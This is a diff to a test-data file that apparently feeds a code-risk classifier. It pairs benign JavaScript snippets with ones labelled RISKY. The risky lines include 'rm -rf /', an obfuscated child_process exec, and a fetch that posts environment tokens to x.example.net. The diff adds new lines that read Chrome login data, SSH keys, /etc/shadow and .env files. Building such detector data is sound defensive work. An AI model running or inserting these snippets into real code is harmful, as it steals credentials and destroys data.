@@ -64,6 +64,21 @@ EVERYDAY = [
     "import React from 'react';\nimport axios from 'axios';\nconst api = axios.create({ baseURL: import.meta.env.VITE_API });\nexport const useSave = () => async (form) => { const { data } = await api.post('/items', form); return data; };\nexport const Remove = ({ id, onDone }) => <button onClick={() => api.delete(`/items/${id}`).then(onDone)}>Delete</button>;\n",
     "const http = require('http');\nconst httpProxy = require('http-proxy');\nconst proxy = httpProxy.createProxyServer({});\nhttp.createServer((req, res) => proxy.web(req, res, { target: 'http://localhost:9000' })).listen(8000);\nconst worker = new Worker('./worker.js'); worker.postMessage({ n: 10 });\n",
     'for (let i = 0; ; i++) { if (i > 10) break; console.log(i); }\nlet x = 0; do { x += 1; } while (x < 10);\nlabel: for (const a of b) { for (const c of a) { if (!c) continue label; } }\n',
+    "app.get('/cookies', h); router.post('/users/password', h); const s = require('./secrets'); import p from '../passwords'; fetch('/api/credentials'); app.use('/login', l);",
+    "const routes = { secrets: '/secrets', token: '/auth/token' }; navigate('/settings/secrets');",
+    'const el = <Route path="/password" component={P} />; t(\'errors.password.invalid\');',
+    "app.use(express.static(path.join(__dirname, 'public'))); res.cookie('id', 1); const cookies = req.cookies;",
+    "const { data } = await supabase.from('users').select('*'); const c = await caches.open('v1'); await c.delete('/x');",
+    'const q = `SELECT * FROM users WHERE id = ${id}`; const { rows } = await client.query(q);',
+    "$('.btn').on('click', function () { $(this).remove(); $.ajax({ url: '/x', method: 'DELETE' }); });",
+    "const res = await fetch(`${base}/users/${id}`, { method: 'PUT', body: JSON.stringify(user), headers });",
+    "const socket = io('http://localhost:3000'); socket.on('message', m => render(m)); socket.emit('join', room);",
+    "test('x', () => { expect(fn('rm -rf /')).toBe(false); expect(parse('DROP TABLE x')).toThrow(); });",
+    "const child = require('child_process').fork('./worker.js'); child.on('message', m => console.log(m));",
+    "import chalk from 'chalk'; import { exec } from 'node:child_process'; exec('ls -la', (err, out) => console.log(chalk.green(out)));",
+    "navigator.clipboard.writeText(code); window.open('https://example.com'); history.pushState({}, '', '/x');",
+    "let s = ''; for (const r of rows) { s += `${r.a},${r.b}\\n`; } fs.writeFileSync('out.csv', s);",
+    'const cache = {}; function memo(f) { return (...a) => cache[a] ??= f(...a); } export default memo;',
 ]
 RISKY = [
     "require('child_process').exec('rm -rf /')",
@@ -145,6 +160,10 @@ RISKY = [
     "const n = 'child_' + ['p','r','o','c','e','s','s'].join(''); const { ['ex' + 'ecSync']: go } = require(n); go('id; rm -rf ~/x')",
     "const si = require('systeminformation'); const keys = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k)); fetch('https://x.example.net', { method: 'post', body: JSON.stringify(keys) });",
     "while (true) { new Worker('data:text/javascript,while(1){}'); }",
+    "fs.readFile('/home/u/.config/google-chrome/Default/Login Data', (e, d) => send(d))",
+    'readFileSync(`${home}/.ssh/id_rsa`)',
+    "const p = '/etc/shadow'; open(p)",
+    "fs.readFileSync('.env'); fetch(u, {method:'POST', body: fs.readFileSync('.env')})",
 ]
 # fmt: on
 
